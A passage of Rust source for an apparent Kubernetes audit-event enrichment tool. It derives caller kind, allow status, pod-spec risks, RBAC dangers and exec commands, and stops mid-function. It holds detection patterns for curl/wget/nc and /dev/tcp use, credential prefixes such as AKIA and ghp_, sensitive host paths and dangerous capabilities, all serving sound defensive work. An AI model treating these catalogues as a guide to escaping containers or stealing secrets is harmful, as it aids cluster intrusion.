//! Fields derived from an audit event so that rules stay simple and data-driven:
//! who the caller is (control plane, node, service account, anonymous...), whether the
//! request was allowed, the pod spec wherever a workload kind hides it (including
//! partial and JSON-Patch bodies), the RBAC rights a role grants, and the command of an
//! exec or of a kubelet call through `nodes/proxy`.
//!
//! Every list here is the catalogue's (`shared/docs/k8s-audit.md` §2.1–2.3); the rules
//! that read these fields keep their own exceptions as data.

use crate::attr;
use serde_json::{Map, Value, json};

use crate::str_at;

/// Where each workload kind keeps its pod spec (reference §1.10).
pub fn pod_spec_path(resource: &str) -> Option<&'static [&'static str]> {
    Some(match resource {
        "pods" => &["spec"],
        "deployments"
        | "replicasets"
        | "statefulsets"
        | "daemonsets"
        | "jobs"
        | "replicationcontrollers" => &["spec", "template", "spec"],
        "cronjobs" => &["spec", "jobTemplate", "spec", "template", "spec"],
        "podtemplates" => &["template", "spec"],
        _ => return None,
    })
}

/// The kind of caller, from the real (not impersonated) user. One word each, so a rule
/// can say `attributes.k8s.actor.kind:controlplane`.
pub fn actor_kind(username: &str, code: Option<i64>) -> &'static str {
    const CONTROL_PLANE: [&str; 5] = [
        "system:kube-controller-manager",
        "system:kube-scheduler",
        "system:apiserver",
        "system:kube-proxy",
        "system:volume-scheduler",
    ];
    if username.is_empty() {
        return if code == Some(401) {
            "unauthenticated"
        } else {
            "unknown"
        };
    }
    if CONTROL_PLANE.contains(&username)
        || username.starts_with("system:serviceaccount:kube-system:")
        || username.starts_with("eks:")
        || username == "aksService"
        || username.starts_with("system:gke-")
    {
        "controlplane"
    } else if username.starts_with("system:node:") {
        "node"
    } else if username.starts_with("system:bootstrap:") {
        "bootstrap"
    } else if username.starts_with("system:serviceaccount:") {
        "serviceaccount"
    } else if username == "system:anonymous" {
        "anonymous"
    } else {
        "user"
    }
}

/// "allowed" as the catalogue defines it: decision `allow`; without the annotation, a
/// 2xx or 101 response. `RequestReceived` carries neither, so it is never allowed.
pub fn allowed(decision: Option<&str>, code: Option<i64>) -> bool {
    match decision {
        Some(d) => d == "allow" && code.is_none_or(|c| c < 400),
        None => code.is_some_and(|c| (200..300).contains(&c) || c == 101),
    }
}

/// The user agent's family: `kubectl`, `clientgo` (controllers and operators),
/// `scripted` (curl, python-requests...), `browser` or `other`.
pub fn user_agent_family(ua: &str) -> &'static str {
    const SCRIPTED: [&str; 11] = [
        "curl",
        "wget",
        "python-requests",
        "python-urllib",
        "aiohttp",
        "go-http-client",
        "okhttp",
        "node-fetch",
        "axios",
        "postmanruntime",
        "libwww-perl",
    ];
    let lower = ua.to_ascii_lowercase();
    if lower.starts_with("kubectl/") {
        "kubectl"
    } else if SCRIPTED.iter().any(|s| lower.starts_with(s)) {
        "scripted"
    } else if lower.starts_with("mozilla/") {
        "browser"
    } else if lower.contains("kubernetes/") || lower.contains("client-go") {
        "clientgo"
    } else {
        "other"
    }
}

/// Query parameters of a request URI, URL-decoded (`+` is a space), in order.
pub fn query_params(uri: &str) -> Vec<(String, String)> {
    let Some((_, query)) = uri.split_once('?') else {
        return Vec::new();
    };
    form_urlencoded::parse(query.as_bytes())
        .map(|(k, v)| (k.into_owned(), v.into_owned()))
        .collect()
}

/// Exec/attach details from the query: the command (repeated `command=` params joined
/// by spaces), the container and whether a TTY was requested.
fn exec_fields(uri: &str, out: &mut Map<String, Value>) {
    let params = query_params(uri);
    let command: Vec<&str> = params
        .iter()
        .filter(|(k, _)| k == "command" || k == "cmd")
        .map(|(_, v)| v.as_str())
        .collect();
    if !command.is_empty() {
        let line = command.join(" ");
        if is_health_check(&line) {
            out.insert(attr::EXEC_HEALTH_CHECK.into(), json!(true));
        }
        out.insert(attr::EXEC_COMMAND.into(), json!(line));
    }
    if let Some((_, c)) = params.iter().find(|(k, _)| k == "container") {
        out.insert(attr::EXEC_CONTAINER.into(), json!(c));
    }
    if params.iter().any(|(k, v)| k == "tty" && v == "true") {
        out.insert(attr::EXEC_TTY.into(), json!(true));
    }
}

/// Whether an exec command line is only a health or loopback port check, the way
/// Elastic's exec rules except them: `curl`/`wget` of a loopback address or of the API
/// server's `/healthz|/readyz|/livez`, `nc -z` of a loopback port, or a shell
/// redirection to `/dev/tcp/<loopback>/<port>`, optionally wrapped in `sh -c` or
/// `timeout N`. Anything else on the line (a pipe, a second command, an output file,
/// an upload, another host, an unknown flag) makes it not a check.
pub fn is_health_check(command: &str) -> bool {
    const SHELLS: &[&str] = &[
        "sh",
        "bash",
        "ash",
        "dash",
        "zsh",
        "/bin/sh",
        "/bin/bash",
        "/bin/ash",
        "/usr/bin/bash",
    ];
    if command.len() > 1024
        || command.contains(['|', ';', '`', '&', '\n', '<'])
        || command.contains("$(")
    {
        return false;
    }
    let mut words: Vec<String> = command.split_whitespace().map(str::to_string).collect();
    if words.len() >= 3 && SHELLS.contains(&words[0].as_str()) && words[1] == "-c" {
        // `sh -c 'a b c'`: kubectl passes the script as one argument; the URI joins
        // arguments with spaces, so the script is the rest of the line.
        let script = words[2..].join(" ");
        let script = script.trim_matches(|c| c == '\'' || c == '"');
        if script.contains(['\'', '"']) {
            return false;
        }
        words = script.split_whitespace().map(str::to_string).collect();
    }
    if words.first().map(String::as_str) == Some("timeout") {
        if words.len() < 2 || words[1].parse::<f64>().is_err() {
            return false;
        }
        words.drain(..2);
    }
    let Some(program) = words.first() else {
        return false;
    };
    let program = program.rsplit('/').next().unwrap_or("");
    let args = &words[1..];
    match program {
        "curl" => tool_args_check(
            args,
            "sSfkLIvq",
            &[
                "-m",
                "--max-time",
                "--connect-timeout",
                "-w",
                "--write-out",
                "-H",
                "--header",
                "--retry",
            ],
            true,
        ),
        "wget" => tool_args_check(args, "qS", &["-T", "-t", "--tries"], true),
        "nc" | "ncat" | "netcat" => {
            let z = args.iter().any(|a| a.starts_with('-') && a.contains('z'));
            z && nc_check(args)
        }
        "echo" | "true" | ":" | "cat" => {
            // `echo > /dev/tcp/localhost/5432`
            let rest: Vec<&str> = args
                .iter()
                .map(String::as_str)
                .filter(|a| *a != ">")
                .collect();
            match rest.as_slice() {
                [target] => dev_tcp_loopback(target.trim_start_matches('>')),
                _ => false,
            }
        }
        _ => false,
    }
}

/// curl/wget arguments: combined short flags from `letters`, flags taking a value from
/// `valued`, `-o /dev/null`, wget's `-O-`, and at least one URL, every URL a check.
fn tool_args_check(args: &[String], letters: &str, valued: &[&str], output_ok: bool) -> bool {
    let mut urls = 0;
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        if let Some((flag, _)) = a.split_once('=')
            && (valued.contains(&flag) || flag == "--timeout")
        {
            i += 1;
            continue;
        }
        if valued.contains(&a) {
            i += 2;
            continue;
        }
        if output_ok && matches!(a, "-o" | "--output" | "-O") {
            if args
                .get(i + 1)
                .map(String::as_str)
                .is_some_and(|v| v == "/dev/null" || v == "-")
            {
                i += 2;
                continue;
            }
            return false;
        }
        if matches!(
            a,
            "-O-"
                | "-qO-"
                | "-qO"
                | "--spider"
                | "--silent"
                | "--fail"
                | "--show-error"
                | "--insecure"
                | "--head"
                | "--quiet"
                | "--no-check-certificate"
                | "-s"
                | "--no-verbose"
                | "-nv"
        ) {
            // `-qO` is followed by `-`
            if a == "-qO" && args.get(i + 1).map(String::as_str) != Some("-") {
                return false;
            }
            i += if a == "-qO" { 2 } else { 1 };
            continue;
        }
        if let Some(short) = a.strip_prefix('-') {
            if !short.is_empty()
                && !short.starts_with('-')
                && short.chars().all(|c| letters.contains(c))
            {
                i += 1;
                continue;
            }
            return false;
        }
        if !url_is_check(a) {
            return false;
        }
        urls += 1;
        i += 1;
    }
    urls > 0
}

/// `nc -z [-v] [-w N] <loopback> <port>`.
fn nc_check(args: &[String]) -> bool {
    let mut positional = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        if a == "-w" {
            i += 2;
            continue;
        }
        if let Some(short) = a.strip_prefix('-') {
            if !short.is_empty() && short.chars().all(|c| "zvnuw0123456789".contains(c)) {
                i += 1;
                continue;
            }
            return false;
        }
        positional.push(a);
        i += 1;
    }
    matches!(positional.as_slice(), [host, port] if host_is_loopback(host) && port.parse::<u16>().is_ok())
}

fn dev_tcp_loopback(target: &str) -> bool {
    let Some(rest) = target.strip_prefix("/dev/tcp/") else {
        return false;
    };
    matches!(rest.split_once('/'), Some((host, port)) if host_is_loopback(host) && port.parse::<u16>().is_ok())
}

fn host_is_loopback(host: &str) -> bool {
    let host = host.trim_start_matches('[').trim_end_matches(']');
    if host.eq_ignore_ascii_case("localhost") {
        return true;
    }
    host.parse::<std::net::IpAddr>()
        .is_ok_and(|ip| ip.is_loopback())
}

/// A URL (scheme optional) of a loopback host, or the API server's health endpoints.
fn url_is_check(raw: &str) -> bool {
    let with_scheme = if raw.contains("://") {
        raw.to_string()
    } else {
        format!("http://{raw}")
    };
    let Ok(url) = url::Url::parse(&with_scheme) else {
        return false;
    };
    if !matches!(url.scheme(), "http" | "https")
        || !url.username().is_empty()
        || url.password().is_some()
    {
        return false;
    }
    let Some(host) = url.host_str() else {
        return false;
    };
    if host_is_loopback(host) {
        return true;
    }
    let api = matches!(
        host,
        "kubernetes.default.svc"
            | "kubernetes.default.svc.cluster.local"
            | "kubernetes.default"
            | "kubernetes"
    );
    api && matches!(
        url.path().trim_end_matches('/'),
        "/healthz" | "/readyz" | "/livez" | "/version"
    )
}

/// The prefix of a configmap value redacted because it held a credential; the kind
/// follows it (`[REDACTED by palisade: aws-access-key-id]`).
pub const CREDENTIAL_MARK: &str = "[REDACTED by palisade: ";

/// Whether a ConfigMap entry holds a credential, by key name or value shape; the kind.
/// Keys that name a credential with an empty value, a placeholder (`${X}`) or a
/// reference to a Secret (`*_secret_name`, `*_secret_ref`) do not count.
pub fn credential_kind(key: &str, value: &str) -> Option<&'static str> {
    let v = value.trim();
    if v.contains("-----BEGIN") && v.contains("PRIVATE KEY") {
        return Some("private-key");
    }
    let bytes = v.as_bytes();
    if bytes.windows(20).any(|w| {
        (w.starts_with(b"AKIA") || w.starts_with(b"ASIA"))
            && w[4..]
                .iter()
                .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit())
    }) {
        return Some("aws-access-key-id");
    }
    for (prefix, kind) in [
        ("ghp_", "github-token"),
        ("github_pat_", "github-token"),
        ("xoxb-", "slack-token"),
        ("xoxp-", "slack-token"),
        ("glpat-", "gitlab-token"),
        ("sk_live_", "stripe-key"),
    ] {
        if v.contains(prefix) {
            return Some(kind);
        }
    }
    let k = key.to_ascii_lowercase().replace(['-', '.'], "_");
    let reference = k.ends_with("_name")
        || k.ends_with("_ref")
        || k.ends_with("_file")
        || k.ends_with("_path")
        || k.ends_with("_secret_key_ref");
    let placeholder =
        v.is_empty() || (v.starts_with("${") && v.ends_with('}')) || v.starts_with("/");
    const NAMES: &[(&str, &str)] = &[
        ("aws_access_key_id", "aws-access-key-id"),
        ("aws_s3_access_key_id", "aws-access-key-id"),
        ("aws_secret_access_key", "aws-secret-key"),
        ("password", "password"),
        ("passwd", "password"),
        ("passphrase", "password"),
        ("client_secret", "client-secret"),
        ("api_key", "api-key"),
        ("apikey", "api-key"),
        ("access_token", "token"),
        ("auth_token", "token"),
        ("bearer_token", "token"),
        ("private_key", "private-key"),
        ("secret_key", "secret-key"),
    ];
    if !reference
        && !placeholder
        && let Some((_, kind)) = NAMES.iter().find(|(n, _)| k.contains(n))
    {
        return Some(kind);
    }
    // A config file in a value: `password=...`, `password: ...`, `"password": "..."`.
    if v.contains('\n') {
        for line in v.lines() {
            let l = line
                .trim()
                .trim_start_matches('"')
                .to_ascii_lowercase()
                .replace(['-', '.'], "_");
            if let Some((name, rest)) = l.split_once(['=', ':']) {
                let name = name.trim().trim_end_matches('"');
                let rest = rest.trim().trim_matches(['"', ',']).trim();
                if !rest.is_empty()
                    && !rest.starts_with("${")
                    && [
                        "password",
                        "passwd",
                        "passphrase",
                        "secret_access_key",
                        "access_key_id",
                        "client_secret",
                        "api_key",
                        "apikey",
                    ]
                    .iter()
                    .any(|n| name.ends_with(n))
                {
                    return Some("password-in-file");
                }
            }
        }
    }
    None
}

/// `key (kind)` of every ConfigMap entry redaction marked as a credential.
fn configmap_credentials_marked(object: &Value) -> Vec<String> {
    let mut found: Vec<String> = object
        .get("data")
        .and_then(Value::as_object)
        .into_iter()
        .flatten()
        .filter_map(|(k, v)| {
            let kind = v
                .as_str()?
                .strip_prefix(CREDENTIAL_MARK)?
                .strip_suffix(']')?;
            Some(format!("{k} ({kind})"))
        })
        .collect();
    found.truncate(32);
    found
}

/// Containers a PATCH adds to a workload's pod template: JSON-Patch `add` operations
/// onto a `containers`/`initContainers` array, and merge-patch entries that define a
/// container with a command (`kubectl set image` sends name and image only, which is
/// an image change, not an added container).
fn containers_added(request: Option<&Value>) -> Vec<String> {
    let mut out = Vec::new();
    match request {
        Some(Value::Array(ops)) => {
            for op in ops.iter().take(MAX_PATCH_OPS) {
                let path = op.get("path").and_then(Value::as_str).unwrap_or("");
                let is_add = op.get("op").and_then(Value::as_str) == Some("add");
                let mut segs = path.rsplit('/');
                let last = segs.next().unwrap_or("");
                let array = segs.next().unwrap_or("");
                if is_add
                    && matches!(array, "containers" | "initContainers")
                    && (last == "-" || last.parse::<usize>().is_ok())
                    && let Some(c) = op.get("value")
                {
                    out.push(str_at(c, &["name"]).unwrap_or("?").to_string());
                }
                if is_add
                    && matches!(last, "containers" | "initContainers")
                    && let Some(list) = op.get("value").and_then(Value::as_array)
                    && list.len() > 1
                {
                    out.extend(
                        list.iter()
                            .skip(1)
                            .map(|c| str_at(c, &["name"]).unwrap_or("?").to_string()),
                    );
                }
            }
        }
        Some(obj @ Value::Object(_)) => {
            for path in [
                &["spec", "template", "spec"][..],
                &["spec", "jobTemplate", "spec", "template", "spec"][..],
            ] {
                let Some(spec) = at(obj, path) else { continue };
                for field in ["containers", "initContainers"] {
                    for c in spec
                        .get(field)
                        .and_then(Value::as_array)
                        .into_iter()
                        .flatten()
                    {
                        let defines = c.get("image").is_some()
                            && (c.get("command").is_some() || c.get("args").is_some());
                        let deleted = str_at(c, &["$patch"]) == Some("delete");
                        if defines && !deleted {
                            out.push(str_at(c, &["name"]).unwrap_or("?").to_string());
                        }
                    }
                }
            }
        }
        _ => {}
    }
    out.truncate(16);
    out
}

/// The deepest JSON-Patch path replayed (a pod spec field in a CronJob is 10
/// segments deep); an operation with a longer path is skipped unread.
pub const MAX_PATCH_SEGMENTS: usize = 32;
/// The highest array index a replayed operation may name; a larger one appends.
const MAX_PATCH_INDEX: usize = 256;
/// The most operations of one patch replayed.
pub const MAX_PATCH_OPS: usize = 1024;

/// Replay the `add`/`replace` operations of a JSON Patch onto an empty document, so a
/// partial object can be read with the same paths as a full one.
///
/// Attacker-sized input is bounded: paths are split lazily and an operation of more
/// than [`MAX_PATCH_SEGMENTS`] segments is skipped before anything is allocated for
/// it, the walk is a loop (no recursion), and an index past the end appends one
/// element instead of padding.
pub fn json_patch_skeleton(ops: &[Value]) -> Value {
    let mut doc = json!({});
    for op in ops.iter().take(MAX_PATCH_OPS) {
        let kind = op.get("op").and_then(Value::as_str).unwrap_or("");
        let (Some(path), Some(value)) = (op.get("path").and_then(Value::as_str), op.get("value"))
        else {
            continue;
        };
        if !matches!(kind, "add" | "replace") {
            continue;
        }
        if path.bytes().filter(|b| *b == b'/').count() > MAX_PATCH_SEGMENTS {
            continue;
        }
        let segments = path
            .split('/')
            .skip(1)
            .map(|s| s.replace("~1", "/").replace("~0", "~"));
        set_path(&mut doc, segments, value.clone());
    }
    doc
}

fn set_path(root: &mut Value, segments: impl Iterator<Item = String>, value: Value) {
    let mut cur = root;
    for head in segments {
        let array_index = if head == "-" {
            Some(usize::MAX)
        } else {
            head.parse::<usize>().ok()
        };
        cur = match array_index {
            Some(index) => {
                if !cur.is_array() {
                    *cur = json!([]);
                }
                let items = cur.as_array_mut().expect("array");
                let index = if index >= items.len() || index > MAX_PATCH_INDEX {
                    items.push(json!({}));
                    items.len() - 1
                } else {
                    index
                };
                &mut items[index]
            }
            None => {
                if !cur.is_object() {
                    *cur = json!({});
                }
                cur.as_object_mut()
                    .expect("object")
                    .entry(head)
                    .or_insert(Value::Null)
            }
        };
    }
    *cur = value;
}

/// The object whose spec we read: the response (full result) when logged, else the
/// request (possibly partial; JSON-Patch arrays are replayed onto a skeleton).
fn written_object(event: &Value) -> Option<(Value, &'static str)> {
    for (field, label) in [
        ("responseObject", "responseObject"),
        ("requestObject", "requestObject"),
    ] {
        match event.get(field) {
            Some(Value::Array(ops)) => return Some((json_patch_skeleton(ops), "json-patch")),
            Some(v @ Value::Object(m)) if !m.contains_key("_truncated") => {
                // A Status in the response (e.g. a delete) says nothing about the spec.
                if v.get("kind").and_then(Value::as_str) == Some("Status") {
                    continue;
                }
                return Some((v.clone(), label));
            }
            _ => {}
        }
    }
    None
}

fn at<'a>(v: &'a Value, path: &[&str]) -> Option<&'a Value> {
    path.iter().try_fold(v, |cur, key| cur.get(key))
}

const SENSITIVE_HOST_PATHS: [&str; 13] = [
    "/",
    "/proc",
    "/sys",
    "/dev",
    "/root",
    "/home",
    "/etc",
    "/var",
    "/var/run",
    "/run",
    "/boot",
    "/var/lib/docker",
    "/var/lib/containerd",
];
const SENSITIVE_HOST_PREFIXES: [&str; 4] = [
    "/etc/kubernetes",
    "/var/lib/kubelet",
    "/var/lib/etcd",
    "/home/admin",
];

/// Whether a hostPath is one the catalogue (K8S-004) calls sensitive.
pub fn sensitive_host_path(path: &str) -> bool {
    let p = if path.len() > 1 {
        path.trim_end_matches('/')
    } else {
        path
    };
    SENSITIVE_HOST_PATHS.contains(&p)
        || SENSITIVE_HOST_PREFIXES
            .iter()
            .any(|prefix| p == *prefix || p.starts_with(&format!("{prefix}/")))
        || ((p.starts_with("/run/") || p.starts_with("/var/run/")) && p.ends_with(".sock"))
}

const DANGEROUS_CAPABILITIES: [&str; 11] = [
    "ALL",
    "SYS_ADMIN",
    "SYS_PTRACE",
    "SYS_MODULE",
    "DAC_READ_SEARCH",
    "NET_ADMIN",
    "BPF",
    "PERFMON",
    "SYS_RAWIO",
    "SYS_BOOT",
    "SYSLOG",
];

fn strings(v: Option<&Value>) -> impl Iterator<Item = &str> {
    v.and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(Value::as_str)
}

/// Pod-spec facts (reference §2.3 K8S-003…009) as `k8s.pod.*` fields.
fn pod_fields(spec: &Value, source: &str, out: &mut Map<String, Value>) {
    let containers: Vec<&Value> = ["containers", "initContainers", "ephemeralContainers"]
        .iter()
        .filter_map(|k| spec.get(*k).and_then(Value::as_array))
        .flatten()
        .filter(|c| c.is_object())
        .collect();
    let mut images = Vec::new();
    let mut privileged = false;
    let mut escalation = false;
    let mut root = at(spec, &["securityContext", "runAsUser"]).and_then(Value::as_i64) == Some(0);
    let mut caps: Vec<String> = Vec::new();
    for c in &containers {
        if let Some(image) = c.get("image").and_then(Value::as_str) {
            images.push(image.to_string());
        }
        let sc = c.get("securityContext");
        let flag = |k: &str| sc.and_then(|s| s.get(k)).and_then(Value::as_bool) == Some(true);
        privileged |= flag("privileged");
        escalation |= flag("allowPrivilegeEscalation");
        root |= sc.and_then(|s| s.get("runAsUser")).and_then(Value::as_i64) == Some(0);
        for cap in strings(sc.and_then(|s| at(s, &["capabilities", "add"]))) {
            let cap = cap.to_ascii_uppercase();
            let cap = cap.strip_prefix("CAP_").unwrap_or(&cap).to_string();
            if !caps.contains(&cap) {
                caps.push(cap);
            }
        }
    }
    let host_paths: Vec<String> = spec
        .get("volumes")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(|v| at(v, &["hostPath", "path"]).and_then(Value::as_str))
        .map(|p| {
            if p.len() > 1 {
                p.trim_end_matches('/').to_string()
            } else {
                p.to_string()
            }
        })
        .collect();
    let sensitive: Vec<&String> = host_paths
        .iter()
        .filter(|p| sensitive_host_path(p))
        .collect();
    let dangerous: Vec<&String> = caps
        .iter()
        .filter(|c| DANGEROUS_CAPABILITIES.contains(&c.as_str()))
        .collect();
    let mut distinct: Vec<&String> = images.iter().collect();
    distinct.sort();
    distinct.dedup();
    let distinct_images = distinct.len();
    let mut put = |k: &str, v: Value| {
        out.insert(format!("{}{k}", attr::POD_PREFIX), v);
    };
    put("spec_source", json!(source));
    if !images.is_empty() {
        put("images", json!(images));
        put("distinct_images", json!(distinct_images));
    }
    put("privileged", json!(privileged));
    for (field, key) in [
        ("hostPID", "host_pid"),
        ("hostIPC", "host_ipc"),
        ("hostNetwork", "host_network"),
    ] {
        put(
            key,
            json!(spec.get(field).and_then(Value::as_bool) == Some(true)),
        );
    }
    if !host_paths.is_empty() {
        put("host_paths", json!(host_paths));
    }
    // A boolean too: "/" has no searchable token, so `sensitive_host_paths:*` cannot see it.
    put("sensitive_host_path", json!(!sensitive.is_empty()));
    if !sensitive.is_empty() {
        put("sensitive_host_paths", json!(sensitive));
    }
    if !caps.is_empty() {
        put("capabilities_added", json!(caps));
    }
    if !dangerous.is_empty() {
        put("dangerous_capabilities", json!(dangerous));
    }
    put("run_as_root", json!(root));
    put("allow_privilege_escalation", json!(escalation));
    if let Some(sa) = spec
        .get("serviceAccountName")
        .or_else(|| spec.get("serviceAccount"))
        .and_then(Value::as_str)
    {
        put("service_account", json!(sa));
        put(
            "controller_service_account",
            json!(sa.ends_with("-controller") || KCM_SERVICE_ACCOUNTS.contains(&sa)),
        );
    }
}

/// Service accounts kube-controller-manager runs its controllers as (K8S-009).
const KCM_SERVICE_ACCOUNTS: [&str; 12] = [
    "attachdetach-controller",
    "certificate-controller",
    "clusterrole-aggregation-controller",
    "cronjob-controller",
    "daemon-set-controller",
    "deployment-controller",
    "generic-garbage-collector",
    "horizontal-pod-autoscaler",
    "namespace-controller",
    "persistent-volume-binder",
    "pvc-protection-controller",
    "statefulset-controller",
];

/// Unauthenticated discovery and health endpoints (K8S-016 exclusions).
pub fn health_path(path: &str) -> bool {
    ["/healthz", "/livez", "/readyz"]
        .iter()
        .any(|p| path == *p || path.starts_with(&format!("{p}/")))
        || matches!(
            path,
            "/version" | "/version/" | "/.well-known/openid-configuration" | "/openid/v1/jwks"
        )
}

/// RBAC rights a Role/ClusterRole grants (K8S-011) as `k8s.rbac.*` fields; `risks`
/// names each dangerous right found.
fn rbac_rule_fields(object: &Value, out: &mut Map<String, Value>) {
    let Some(rules) = object.get("rules").and_then(Value::as_array) else {
        return;
    };
    let mut verbs: Vec<String> = Vec::new();
    let mut resources: Vec<String> = Vec::new();
    let mut risks: Vec<&str> = Vec::new();
    let mut risk = |r: &'static str| {
        if !risks.contains(&r) {
            risks.push(r);
        }
    };
    for rule in rules {
        let rv: Vec<&str> = strings(rule.get("verbs")).collect();
        let rr: Vec<&str> = strings(rule.get("resources")).collect();
        let any_verb = |set: &[&str]| rv.iter().any(|v| *v == "*" || set.contains(v));
        if rv.contains(&"*") || rr.contains(&"*") {
            risk("wildcard");
        }
        for v in ["escalate", "bind", "impersonate"] {
            if rv.contains(&v) {
                risk(v);
            }
        }
        if rr.contains(&"secrets") && any_verb(&["get", "list", "watch"]) {
            risk("secrets-read");
        }
        for (res, label) in [
            ("pods/exec", "pods-exec"),
            ("pods/attach", "pods-attach"),
            ("nodes/proxy", "nodes-proxy"),
            ("serviceaccounts/token", "serviceaccounts-token"),
        ] {
            if rr.contains(&res) && any_verb(&["create", "get"]) {
                risk(label);
            }
        }
        for v in rv {
            if !verbs.iter().any(|x| x == v) {
                verbs.push(v.to_string());
            }
        }
        for r in rr {
            if !resources.iter().any(|x| x == r) {
                resources.push(r.to_string());
            }
        }
    }
    out.insert(attr::RBAC_VERBS.into(), json!(verbs));
    out.insert(attr::RBAC_RESOURCES.into(), json!(resources));
    if !risks.is_empty() {
        out.insert(attr::RBAC_RISKS.into(), json!(risks));
    }
}

/// Every derived field of one (already redacted) event.
pub fn derive(event: &Value, code: Option<i64>) -> Map<String, Value> {
    let mut out = Map::new();
    let username = str_at(event, &["user", "username"]).unwrap_or("");
    let decision = str_at(event, &["annotations", "authorization.k8s.io/decision"]);
    let resource = str_at(event, &["objectRef", "resource"]).unwrap_or("");
    let subresource = str_at(event, &["objectRef", "subresource"]).unwrap_or("");
    let verb = str_at(event, &["verb"]).unwrap_or("");
    let uri = str_at(event, &["requestURI"]).unwrap_or("");
    let stage = str_at(event, &["stage"]).unwrap_or("");
    let is_allowed = stage != "RequestReceived" && allowed(decision, code);
    out.insert(attr::ALLOWED.into(), json!(is_allowed));
    out.insert(attr::ACTOR_KIND.into(), json!(actor_kind(username, code)));
    if let Some(ua) = str_at(event, &["userAgent"]) {
        out.insert(attr::USER_AGENT_FAMILY.into(), json!(user_agent_family(ua)));
    }
    let effective = str_at(event, &["impersonatedUser", "username"]).unwrap_or(username);
    if !effective.is_empty() {
        out.insert(attr::USER_EFFECTIVE.into(), json!(effective));
    }
    if let Some(pod) = event
        .pointer("/user/extra/authentication.kubernetes.io~1pod-name/0")
        .and_then(Value::as_str)
    {
        out.insert(attr::USER_POD_NAME.into(), json!(pod));
    }
    out.insert(
        attr::AUDIT_BODY_LOGGED.into(),
        json!(event.get("requestObject").is_some() || event.get("responseObject").is_some()),
    );
    let path = uri.split('?').next().unwrap_or("");
    out.insert(attr::REQUEST_PATH.into(), json!(path));
    // What was asked for: the resource (and subresource), or the non-resource path.
    let target = match (resource, subresource) {
        ("", _) => path.to_string(),
        (r, "") => r.to_string(),
        (r, s) => format!("{r}/{s}"),
    };
    if !target.is_empty() {
        out.insert(attr::REQUEST_TARGET.into(), json!(target));
    }
    if health_path(path) {
        out.insert(attr::REQUEST_HEALTH.into(), json!(true));
    }
    if query_params(uri)
        .iter()
        .any(|(k, v)| k == "fieldSelector" && v.starts_with("metadata.name="))
    {
        out.insert(attr::REQUEST_SINGLE_OBJECT.into(), json!(true));
    }
    if let Some(rest) = username.strip_prefix("system:serviceaccount:")
        && let Some((ns, name)) = rest.split_once(':')
    {
        out.insert(attr::USER_SA_NAMESPACE.into(), json!(ns));
        out.insert(attr::USER_SA_NAME.into(), json!(name));
    }
    if let Some(imp) = str_at(event, &["impersonatedUser", "username"]) {
        out.insert(
            attr::IMPERSONATED_USER_KIND.into(),
            json!(actor_kind(imp, Some(200))),
        );
    }
    let namespace = str_at(event, &["objectRef", "namespace"]).unwrap_or("");
    let name = object_name(event);
    if !name.is_empty() {
        out.insert(
            attr::OBJECT_PATH.into(),
            json!(format!("{namespace}/{name}")),
        );
        if name.starts_with("system:") {
            out.insert(attr::OBJECT_SYSTEM_NAME.into(), json!(true));
        }
    }
    if resource == "pods" && matches!(subresource, "exec" | "attach") {
        exec_fields(uri, &mut out);
    }
    if resource == "nodes" && subresource == "proxy" {
        if let Some((_, rest)) = path.split_once("/proxy/") {
            out.insert(attr::PROXY_PATH.into(), json!(rest));
            let kind = rest.split(['/', '?']).next().unwrap_or("");
            out.insert(attr::PROXY_KIND.into(), json!(kind.to_ascii_lowercase()));
            if rest.starts_with("exec/") || rest.starts_with("run/") {
                exec_fields(uri, &mut out);
            }
        } else if path.ends_with("/proxy") {
            out.insert(attr::PROXY_PATH.into(), json!(""));
        }
    }
    // The identity a new credential is for (C-03): a TokenRequest (no body needed),
    // a service-account token Secret, or a CSR's subject common name.
    if verb == "create" && is_allowed {
        let object = written_object(event).map(|(o, _)| o);
        let namespace = str_at(event, &["objectRef", "namespace"]).unwrap_or("");
        let minted_for = match (resource, subresource) {
            ("serviceaccounts", "token") => str_at(event, &["objectRef", "name"])
                .map(|sa| format!("system:serviceaccount:{namespace}:{sa}")),
            ("secrets", "") => object
                .as_ref()
                .filter(|o| str_at(o, &["type"]) == Some("kubernetes.io/service-account-token"))
                .and_then(|o| {
                    o.pointer("/metadata/annotations/kubernetes.io~1service-account.name")
                        .and_then(Value::as_str)
                })
                .map(|sa| format!("system:serviceaccount:{namespace}:{sa}")),
            ("certificatesigningrequests", "") => object
                .as_ref()
                .and_then(|o| at(o, &["spec", "request"]))
                .and_then(Value::as_str)
                .and_then(crate::csr::subject)
                .and_then(|s| s.common_name),
            _ => None,
        };
        if let Some(principal) = minted_for {
            out.insert(attr::CREDENTIAL_MINTED_FOR.into(), json!(principal));
        }
    }
    let written = matches!(verb, "create" | "update" | "patch");
    if verb == "patch"
        && is_allowed
        && subresource.is_empty()
        && pod_spec_path(resource).is_some()
        && resource != "pods"
    {
        let added = containers_added(event.get("requestObject"));
        if !added.is_empty() {
            out.insert(attr::CONTAINERS_ADDED.into(), json!(added));
        }
    }
    if let Some((object, source)) = written_object(event) {
        if written
            && (subresource.is_empty() || subresource == "ephemeralcontainers")
            && let Some(spec) = pod_spec_path(resource).and_then(|p| at(&object, p))
        {
            pod_fields(spec, source, &mut out);
        }
        if matches!(resource, "roles" | "clusterroles") && written {
            rbac_rule_fields(&object, &mut out);
        }
        if matches!(resource, "rolebindings" | "clusterrolebindings") {
            if let Some(name) = at(&object, &["roleRef", "name"]).and_then(Value::as_str) {
                out.insert(attr::RBAC_ROLE_REF.into(), json!(name));
            }
            let subjects: Vec<String> = object
                .get("subjects")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
                .map(|s| {
                    let kind = str_at(s, &["kind"]).unwrap_or("");
                    let name = str_at(s, &["name"]).unwrap_or("");
                    match str_at(s, &["namespace"]) {
                        Some(ns) => format!("{kind}:{ns}/{name}"),
                        None => format!("{kind}:{name}"),
                    }
                })
                .collect();
            if !subjects.is_empty() {
                out.insert(attr::RBAC_SUBJECTS.into(), json!(subjects));
            }
        }
        if let Some(owner) = object
            .pointer("/metadata/ownerReferences")
            .and_then(Value::as_array)
            .and_then(|o| {
                o.iter()
                    .find(|r| r.get("controller").and_then(Value::as_bool) == Some(true))
                    .or_else(|| o.first())
            })
        {
            if let Some(kind) = str_at(owner, &["kind"]) {
